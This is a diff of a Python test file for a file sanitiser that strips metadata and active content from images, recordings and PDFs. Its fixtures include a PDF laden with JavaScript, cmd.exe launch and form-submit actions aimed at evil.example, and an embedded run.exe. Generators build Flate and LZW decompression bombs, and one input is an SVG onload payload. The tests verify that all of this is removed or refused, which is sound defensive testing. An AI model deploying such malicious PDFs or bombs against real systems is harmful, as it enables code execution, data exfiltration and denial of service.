@@ -3,6 +3,15 @@
 from __future__ import annotations
 
 import io
+import re
+import resource
+import struct
+import subprocess
+import zlib
+from functools import cache
+from pathlib import Path
+from typing import Any
+from unittest import mock
 
 import av
 import pikepdf
@@ -12,6 +21,7 @@ from hypothesis import strategies as st
 from PIL import Image
 
 from practice import bare as module
+from practice import foreign
 from practice.bare import Unkeepable, bare
 
 TELLTALE = "Somewhere Street 12"
@@ -65,6 +75,9 @@ def letter() -> bytes:
         out = io.BytesIO()
         pdf.save(out)
     return out.getvalue()
+
+
+pytestmark = pytest.mark.filterwarnings("ignore::pikepdf.PageCopyWarning")
 
 
 @pytest.mark.parametrize("kind", ["JPEG", "PNG", "WEBP"])
@@ -132,6 +145,144 @@ def test_b78_a_pdf_loses_its_author_and_what_it_would_run():
         assert len(pdf.pages) == 1
 
 
+def carrying() -> bytes:
+    """A PDF that brings along and does everything that a PDF can, and whose picture knows where it was taken."""
+    named, text = pikepdf.Name, pikepdf.String
+    with pikepdf.new() as pdf:
+        page = pdf.add_blank_page().obj
+        acts = {
+            "js": pikepdf.Dictionary(S=named.JavaScript, JS=text("app.alert('run')")),
+            "launch": pikepdf.Dictionary(S=named.Launch, F=text("cmd.exe")),
+            "remote": pikepdf.Dictionary(S=named.GoToR, F=text("//evil.example/share")),
+            "submit": pikepdf.Dictionary(S=named.SubmitForm, F=text("http://evil.example/")),
+            "import": pikepdf.Dictionary(S=named.ImportData, F=text("evil.fdf")),
+            "script in an address": pikepdf.Dictionary(S=named.URI, URI=text("javascript:run")),
+            "a page of the web": pikepdf.Dictionary(
+                S=named.URI,
+                URI=text("https://example.org/"),
+                Next=pikepdf.Dictionary(S=named.JavaScript, JS=text("run")),
+            ),
+        }
+        link = {"Type": named.Annot, "Subtype": named.Link, "Rect": [0, 0, 10, 10]}
+        carried = pdf.make_stream(TELLTALE.encode())
+        file = pikepdf.Dictionary(Type=named.Filespec, F=text("run.exe"), EF=pikepdf.Dictionary(F=carried))
+        page.Annots = pikepdf.Array(
+            [
+                *(pikepdf.Dictionary(**link, A=act) for act in acts.values()),
+                pikepdf.Dictionary(**link | {"Subtype": named.FileAttachment}, FS=file),
+                pikepdf.Dictionary(**link | {"Subtype": named.Widget}, AA=pikepdf.Dictionary(E=acts["js"])),
+            ]
+        )
+        taken = pdf.make_stream(photograph())
+        taken.update({"/Type": named.XObject, "/Subtype": named.Image, "/Filter": named.DCTDecode, "/Width": 60,
+                      "/Height": 40, "/ColorSpace": named.DeviceRGB, "/BitsPerComponent": 8,
+                      "/Metadata": pdf.make_stream(TELLTALE.encode())})  # fmt: skip
+        page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(P=taken))
+        pdf.Root.Outlines = pdf.make_indirect(pikepdf.Dictionary(First=pikepdf.Dictionary(A=acts["launch"])))
+        pdf.Root.AcroForm = pikepdf.Dictionary(XFA=pdf.make_stream(b"<xdp>run</xdp>"), Fields=pikepdf.Array())
+        pdf.Root.Names = pikepdf.Dictionary(EmbeddedFiles=pikepdf.Dictionary(Names=[text("a"), file]))
+        pdf.Root.AF = pikepdf.Array([file])
+        out = io.BytesIO()
+        pdf.save(out)
+    return out.getvalue()
+
+
+def test_b78_a_pdf_keeps_nothing_that_acts_or_is_carried_along():
+    kept = bare(carrying())
+    with pikepdf.open(io.BytesIO(kept.data)) as pdf:
+        notes = list(pdf.pages[0].Annots)
+        assert [str(one.A.URI) for one in notes if "/A" in one] == ["https://example.org/"]
+        assert not [one for one in notes if "/AA" in one or str(one.Subtype) == "/FileAttachment"]
+        assert not {"/Names", "/AF", "/AcroForm", "/Metadata"} & set(pdf.Root.keys())
+        words = b"".join(one.unparse(resolved=True) for one in pdf.objects if not isinstance(one, pikepdf.Stream))
+        picture = pdf.pages[0].Resources.XObject.P
+        assert "/Metadata" not in picture
+        with Image.open(io.BytesIO(picture.read_raw_bytes())) as shown:
+            assert shown.size == (60, 40)
+            assert shown.convert("RGB").getpixel((30, 20))[0] > 250
+            assert not shown.getexif()
+    for gone in (b"run", b"evil", b"cmd.exe", b"JavaScript", b"Launch"):
+        assert gone not in words
+    assert TELLTALE.encode() not in kept.data
+
+
+def swelling(unpacked: int, packing: str) -> bytes:
+    """A small PDF whose list of objects becomes ``unpacked`` bytes when somebody opens it."""
+    head = b"1 0 2 60 "
+    objects = head + b"<</Type/Catalog/Pages 2 0 R>>".ljust(60) + b"<</Type/Pages/Kids[]/Count 0>>"
+    if packing == "Flate":
+        made = zlib.compressobj(9)
+        packed = made.compress(objects) + b"".join(made.compress(b" " * 10**6) for _ in range(unpacked // 10**6))
+        packed += made.flush()
+    else:
+        packed = runs_of_spaces(objects, unpacked)
+    stream = b"3 0 obj<</Type/ObjStm/N 2/First %d/Filter/%sDecode/Length %d>>stream\n" % (
+        len(head), packing.encode(), len(packed)
+    )  # fmt: skip
+    body = b"%PDF-1.5\n"
+    third = len(body)
+    body += stream + packed + b"\nendstream endobj\n"
+    rows = [(0, 0, 65535), (2, 3, 0), (2, 3, 1), (1, third, 0), (1, len(body), 0)]
+    table = b"".join(struct.pack(">BIH", *row) for row in rows)
+    table = b"4 0 obj<</Type/XRef/Size 5/W[1 4 2]/Root 1 0 R/Length %d>>stream\n%s\nendstream endobj\n" % (
+        len(table), table
+    )  # fmt: skip
+    return body + table + b"startxref\n%d\n%%%%EOF" % len(body)
+
+
+def runs_of_spaces(first: bytes, most: int) -> bytes:
+    """Pack a text and ``most`` spaces as LZW does, the spaces as tightly as it can."""
+    codes: list[tuple[int, int]] = [(256, 9), *((one, 9) for one in first)]  # short: its table stays small
+    total = 0
+    while total < most:
+        codes += [(256, 9), (32, 9)]
+        width, known, length = 9, 258, 2
+        while known < 4090:
+            width += known + 1 >= 1 << width and width < 12
+            codes.append((known, width))
+            known, total, length = known + 1, total + length, length + 1
+    bits = "".join(f"{code:0{width}b}" for code, width in codes)
+    return int(bits.ljust(-(-len(bits) // 8) * 8, "0"), 2).to_bytes(-(-len(bits) // 8), "big")
+
+
+@pytest.mark.parametrize(("packing", "unpacked"), [("Flate", 200_000_000), ("LZW", 1_000_000_000)])
+def test_b71_b79_a_pdf_that_swells_is_refused_and_takes_no_memory_of_ours(packing, unpacked):
+    assert bare(swelling(0, packing)).kind == "file", "it is a PDF like others, but for its size"
+    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
+    bomb = swelling(unpacked, packing)
+    assert len(bomb) < 1_100_000
+    with pytest.raises(Unkeepable):
+        bare(bomb)
+    assert resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before < 200_000, "kilobytes"
+
+
+def test_b79_a_picture_just_below_the_limit_is_made_smaller():
+    out = io.BytesIO()
+    Image.new("L", (8000, 4999)).save(out, "PNG")
+    assert module.PIXELS > 8000 * 4999
+    kept = bare(out.getvalue())
+    assert (kept.width, kept.height) == (2000, 1250)
+
+
+def test_b71_what_opens_foreign_files_knows_nothing_of_us(monkeypatch):
+    """Its process is given the file, and no key, no address and no word of ours."""
+    ran: dict[str, Any] = {}
+    run = subprocess.run
+
+    def note(*args: Any, **kwargs: Any) -> Any:
+        ran.update(kwargs, command=args[0])
+        return run(*args, **kwargs)
+
+    monkeypatch.setenv("ATTUNE_MASTER_KEY", "secret")
+    monkeypatch.setattr(subprocess, "run", note)
+    bare(letter())
+    assert ran["env"] == {}
+    assert ran["timeout"] <= 60
+    assert "-I" in ran["command"]
+    imported = re.findall(r"^\s*(?:from|import) (\w+)", Path(foreign.__file__).read_text(), re.MULTILINE)
+    assert set(imported) <= {"__future__", "io", "resource", "sys", "collections", "typing", "pikepdf", "av"}
+
+
 @pytest.mark.parametrize(
     "data",
     [b"", b"hello", b"%PDF-1.4 nonsense", b"\x1aE\xdf\xa3junk", b"OggSjunk", b"<svg onload=alert(1)>", b"MZ\x90\x00",
@@ -151,12 +302,27 @@ def test_b79_a_file_beyond_the_limit_is_refused_unread():
 @settings(max_examples=60, deadline=None)
 @given(st.data())
 def test_b79_broken_files_are_kept_without_their_notes_or_refused(data):
-    whole = data.draw(st.sampled_from([photograph(), photograph("PNG"), recording("ogg"), recording("mp4"), letter()]))
+    whole = data.draw(st.sampled_from([photograph(), photograph("PNG"), *recordings(), letter(), carrying()]))
     broken = bytearray(whole)
     for place in data.draw(st.lists(st.integers(0, len(whole) - 1), max_size=8)):
         broken[place] = data.draw(st.integers(0, 255))
     try:
-        kept = bare(bytes(broken[: data.draw(st.integers(1, len(whole)))]))
+        with mock.patch.object(module, "_apart", opened_here):  # as in its own process, without a new one each time
+            kept = bare(bytes(broken[: data.draw(st.integers(1, len(whole)))]))
     except Unkeepable:
         return
     assert TELLTALE.encode() not in kept.data
+
+
+def opened_here(data: bytes, words: list[str], why: dict[int, Any], otherwise: Any) -> bytes:
+    try:
+        if words[0] == "document":
+            return foreign.document(data, int(words[1]))
+        return foreign.sound(data, words[1], words[2], int(words[3]))
+    except Exception as error:
+        raise Unkeepable(otherwise) from error
+
+
+@cache
+def recordings() -> tuple[bytes, ...]:
+    return recording("ogg"), recording("mp4")
